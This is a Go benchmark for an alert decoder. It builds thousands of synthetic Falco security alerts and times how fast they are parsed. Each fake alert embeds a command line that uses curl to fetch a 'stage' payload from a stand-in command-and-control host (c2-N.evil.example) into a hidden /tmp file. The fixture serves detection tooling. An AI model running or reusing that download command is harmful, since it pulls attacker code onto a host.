package alert

import (
	"fmt"
	"strings"
	"syscall"
	"testing"
	"time"
)

// falcoLine is an alert as Falco 0.4x writes it for a container, about one
// kilobyte. No two of them share a pod, process or command line.
func falcoLine(i int) string {
	pod := fmt.Sprintf("payments-7d4b9c6f5d-%05x", i*7919%0xfffff)
	command := fmt.Sprintf("curl -fsSL https://c2-%d.evil.example/stage-%d -o /tmp/.x%d", i%97, i, i)
	return fmt.Sprintf(`{"hostname":"node-%d","output":"00:00:%02d.%09d: Warning Unexpected connection of a process | connection=10.244.1.7:%d->203.0.113.%d:443 process=curl command=%s parent=sh terminal=0 container_id=%012x container_name=app k8s_ns_name=payments k8s_pod_name=%s","output_fields":{"container.id":"%012x","container.image.repository":"registry.example/payments","container.image.tag":"1.4.%d","container.name":"app","evt.time":%d,"evt.type":"connect","fd.name":"10.244.1.7:%d->203.0.113.%d:443","fd.rip":"203.0.113.%d","k8s.ns.name":"payments","k8s.pod.name":"%s","proc.cmdline":"%s","proc.exepath":"/usr/bin/curl","proc.name":"curl","proc.pname":"sh","proc.tty":0,"user.name":"root","user.uid":0},"priority":"Warning","rule":"Unexpected connection of a process","source":"syscall","tags":["T1071","container","mitre_command_and_control","network"],"time":"2026-01-01T00:00:%02d.%09dZ"}`,
		i%40, i%60, i, 30000+i%30000, i%250, command, i, pod, i, i%9, 1767225600000000000+i, 30000+i%30000, i%250, i%250, pod, command, i%60, i)
}

func BenchmarkFalcoNDJSON(b *testing.B) {
	var lines strings.Builder
	for i := range 4000 {
		lines.WriteString(falcoLine(i) + "\n")
	}
	input := []byte(lines.String())
	b.SetBytes(int64(len(input)))
	b.ReportAllocs()
	before := cpu(b)
	for b.Loop() {
		items, err := Decode(input, Options{})
		if err != nil || len(items) != 4000 || items[3999].Alert == nil {
			b.Fatal(err, len(items), items[3999])
		}
	}
	// On a machine that others use as well, the time on processors says more
	// than the time that passed; it has that of collecting garbage in it.
	b.ReportMetric(float64(len(input))*float64(b.N)/1e6/(cpu(b)-before).Seconds(), "MB/cpu-s")
}

func cpu(b *testing.B) time.Duration {
	var used syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &used); err != nil {
		b.Fatal(err)
	}
	return time.Duration(used.Utime.Nano() + used.Stime.Nano())
}
